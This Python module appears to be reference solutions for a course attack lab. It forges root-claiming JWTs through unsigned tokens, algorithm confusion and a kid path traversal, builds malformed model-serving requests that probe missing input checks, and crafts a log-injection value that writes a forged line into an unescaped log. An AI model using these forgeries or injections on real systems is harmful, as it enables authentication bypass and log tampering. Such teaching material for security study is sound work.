"""What the exercises of module 07's attack lab ask for, as the course writes it.

Reading order: `forge` (07.11), `attack` of `evasion` (07.12), `attacks` (07.13), `inject` (07.14).
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

from datahall.serving import forging
from datahall.serving.protocol import BINARY_TYPE, JSON_LENGTH_HEADER, JSON_TYPE

NOWHERE = "../" * 9 + "dev/null"  # an empty file, from a folder up to eight levels deep
KINDS = ("unsigned", "confused", "path")
FAULTS = (
    "content_type", "strict_json", "exact_shape", "datatype", "value_range", "batch_limit",
    "size_adds_up",
)  # fmt: skip

Sent = tuple[Mapping[str, str], bytes]
"""Headers, names in small letters, and a body."""


def forge(token: str, public: bytes) -> dict[str, str]:
    """Return three forged tokens that say `root`.

    Args:
        token: An honest one.
        public: The public key that it names, PEM.

    Returns:
        Tokens by "unsigned", "confused" and "path".
    """
    header, claims, _ = forging.parts(token)
    by_path = {**header, "alg": "HS256", "kid": NOWHERE}
    return {
        "unsigned": forging.unsigned(token, sub="root"),
        "confused": forging.confused(token, public, sub="root"),
        "path": forging.keyed(by_path, {**claims, "sub": "root"}, b""),
    }


def attacks(honest: Mapping[str, Any]) -> dict[str, Sent]:
    """Return a request for each fault that a service may not look for.

    Args:
        honest: The JSON of a request with one image, decoded.

    Returns:
        By the name of the missing defence, headers and body.
    """
    tensor = honest["inputs"][0]
    typed = {"content-type": JSON_TYPE}

    def body(**changes: Any) -> bytes:
        return json.dumps({"inputs": [{**tensor, **changes}]}).encode()

    said = {name: tensor[name] for name in ("name", "datatype", "shape")}
    said["parameters"] = {"binary_data_size": 784}
    head = json.dumps({"inputs": [said]}).encode()
    raw = {"content-type": BINARY_TYPE, JSON_LENGTH_HEADER: str(len(head))}
    return {
        "content_type": ({"content-type": "text/plain"}, body()),
        "strict_json": (typed, body(admin=True)),
        "exact_shape": (typed, body(shape=[1, 784])),
        "datatype": (typed, body(datatype="FP32")),
        "value_range": (typed, body(data=[256] * 784)),
        "batch_limit": (typed, body(shape=[33, 28, 28, 1], data=[0] * 33 * 784)),
        "size_adds_up": (raw, head),
    }


def inject(entry: Mapping[str, Any]) -> str:
    """Return a value that writes a line of its own into a log that does not escape.

    Args:
        entry: What the line must say.
    """
    return 'x"}\n' + json.dumps(dict(entry)) + '\n{"x":"'
